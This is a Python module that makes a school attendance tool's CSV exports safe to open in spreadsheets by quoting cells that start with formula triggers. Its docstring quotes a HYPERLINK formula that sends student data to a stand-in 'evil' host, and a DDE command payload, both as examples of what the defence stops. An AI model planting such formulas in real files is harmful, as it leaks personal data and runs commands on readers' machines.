"""Cells of the CSVs a run writes, made safe to open in a spreadsheet (CSV injection, issue 30).

An auditor opens a run's detail CSVs (conflicts, mismatches, ...) in Excel, LibreOffice or Google Sheets,
and the text in them comes from the SIS: an attendance code, its description, a student number. A
spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula, so a code ``=HYPERLINK("http://evil?"&B2&C2,"x")`` would send the neighbouring cells (student,
date) wherever it says when the auditor clicks. Following OWASP's advice ("CSV Injection"), every CSV
the project writes is made by ``spreadsheet_safe_csv``: such a cell is written with a single quote
before it, which spreadsheets read as "this is text". The rule protects the auditors who read the run
report (docs/rules.md, section 6) in a spreadsheet: docs/safety.md, "Pages an auditor opens".

Decided: the cell's type decides, not its look. A number (an id, a count: a numeric column) is written
as it is, a negative one too: it is a number, never a formula. Every text cell that starts with a
trigger is neutralised, ``-`` included, even text that looks like a number (``"-5"``): ``-2+3`` and
``-1+cmd|' /C calc'!A0`` are formulas too, and telling them from a number is where filters are fooled.
A trigger anywhere but first is harmless and left alone.

A carriage return inside a text would end the row for a spreadsheet when the field is not quoted
(Python's csv quotes only the characters of its line terminator), starting a new cell after it that
no quote protects: the CSV's lines end with ``\r\n`` (RFC 4180), so such a field is always quoted.

Only the CSV changes: the run page, which shows a table's first rows read back from its CSV, shows
the text as the SIS holds it (``restore_cell``). To keep that exact, a text that already starts with
quotes followed by a trigger (``'=x``) gets one more quote too, so taking one quote off is always right.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

# The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What a spreadsheet reads as "the rest is text".
TEXT_MARK = "'"
# RFC 4180's line ending: a field holding either character is quoted (see the module docstring).
LINE_END = "\r\n"


def _looks_like_a_formula(text: str) -> bool:
    """A trigger first, or after the quotes that would hide it (so that ``restore_cell`` is exact)."""
    return text.lstrip(TEXT_MARK).startswith(FORMULA_TRIGGERS)


def neutralise_cell(value: Any) -> Any:
    """A cell as the CSV writes it: text that a spreadsheet would read as a formula gets a quote before it.

    Anything but text (numbers, negative ones included, None, NaN, dates) is returned as it is.
    """
    # Only text: OWASP's advice is about text, and a number cell (-5 in a numeric column) is a number to
    # every spreadsheet. Text that merely looks like a negative number ("-5") is quoted all the same.
    if isinstance(value, str) and _looks_like_a_formula(value):
        return TEXT_MARK + value
    return value


def restore_cell(text: Any) -> Any:
    """A cell read back from a CSV as the SIS held it: ``neutralise_cell`` undone."""
    if isinstance(text, str) and text.startswith(TEXT_MARK) and _looks_like_a_formula(text[1:]):
        return text[1:]
    return text


def spreadsheet_safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text that a spreadsheet opens without running any of it: every CSV the project writes."""
    return neutralise_formulas(frame).to_csv(index=False, lineterminator=LINE_END)


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell neutralised (``neutralise_cell``), for ``to_csv``; numeric columns untouched."""
    safe = frame.copy(deep=False)
    for column in frame.columns:
        if pd.api.types.is_object_dtype(frame[column]) or pd.api.types.is_string_dtype(frame[column]):
            safe[column] = frame[column].map(neutralise_cell)
    return safe


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A frame read back from a CSV (every value text) as the SIS held it: ``neutralise_formulas`` undone."""
    return frame.map(restore_cell)
